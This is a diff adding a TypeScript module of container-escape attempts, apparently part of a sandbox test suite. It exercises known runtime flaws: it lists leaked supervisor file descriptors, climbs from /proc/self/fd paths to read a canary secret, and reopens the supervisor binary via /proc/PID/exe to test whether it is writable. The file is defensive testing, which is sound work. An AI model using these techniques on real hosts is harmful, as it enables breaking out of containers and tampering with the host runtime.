@@ -1,0 +1,87 @@
+import { closeSync, openSync, readFileSync, writeSync } from 'node:fs';
+import path from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { type Attack, reached } from './attack.js';
+import type { Scene } from './scene.js';
+
+const asRoot = { userns: 'host' as const };
+
+export const descriptors: readonly Attack[] = [
+  {
+    family: 'descriptors',
+    name: "a descriptor of the supervisor's is left open: its control connection, its files",
+    known: ['CVE-2024-21626', 'CVE-2016-9962'],
+    defence: 'closed-descriptors',
+    stopped: 'harmless',
+    attempt: async ({ stage }) =>
+      reached(await stage.sh('for n in 3 4 5 6 7 8 9; do readlink /proc/$$/fd/$n; done', asRoot)),
+  },
+  {
+    family: 'descriptors',
+    name: 'the working directory is one that the supervisor has open: /proc/self/fd/N',
+    known: ['CVE-2024-21626'],
+    defence: 'inside-directory',
+    stopped: 'harmless',
+    attempt: climbFromDescriptors,
+  },
+  {
+    family: 'descriptors',
+    name: "the supervisor's program is overwritten by way of /proc/PID/exe",
+    known: ['CVE-2019-5736'],
+    defence: 'sealed-program',
+    stopped: 'harmless',
+    attempt: overwriteTheSupervisor,
+  },
+];
+
+/** From each descriptor up, step by step, until the canary is in reach. */
+async function climbFromDescriptors({ stage, canary }: Scene): Promise<string | undefined> {
+  const climb = `d=.; for i in 1 2 3 4 5 6 7 8 9 10; do
+    for f in $d${canary}/secret $d/${path.basename(canary)}/secret; do [ -e $f ] && cat $f && exit; done
+    d=$d/..
+  done`;
+  for (let fd = 3; fd < 24; ++fd) {
+    const text = await stage
+      .sh(climb, { ...asRoot, workingDirectory: `/proc/self/fd/${fd}` })
+      .catch(() => '');
+    if (text !== '') return `by descriptor ${fd}: ${text}`;
+  }
+  return undefined;
+}
+
+/** As a task would that sees the supervisor: opened while it runs, written once it has ended and the kernel no longer forbids that. */
+async function overwriteTheSupervisor({ stage }: Scene): Promise<string | undefined> {
+  const container = await stage.start(['sleep', '60']);
+  const status = readFileSync(`/proc/${container.pid}/status`, 'utf8');
+  const supervisor = /^PPid:\t(\d+)$/m.exec(status)?.[1];
+  const running = openSync(`/proc/${supervisor}/exe`, 'r');
+  try {
+    container.signal(9);
+    await container.gone;
+    return (await write(running)) ? 'it can be written' : undefined;
+  } finally {
+    closeSync(running);
+  }
+}
+
+/** Writes the first bytes of a program over themselves. */
+async function write(program: number): Promise<boolean> {
+  for (;;) {
+    try {
+      const writable = openSync(`/proc/self/fd/${program}`, 'r+');
+      const start = readFileSync(writable).subarray(0, 4);
+      try {
+        writeSync(writable, start, 0, start.length, 0);
+        return true;
+      } finally {
+        closeSync(writable);
+      }
+    } catch (error) {
+      const { code = '' } = error as NodeJS.ErrnoException;
+      if (['EPERM', 'EACCES'].includes(code)) return false;
+      // Another container's supervisor has not quite ended.
+      if (code !== 'ETXTBSY') throw error;
+      await sleep(20);
+    }
+  }
+}
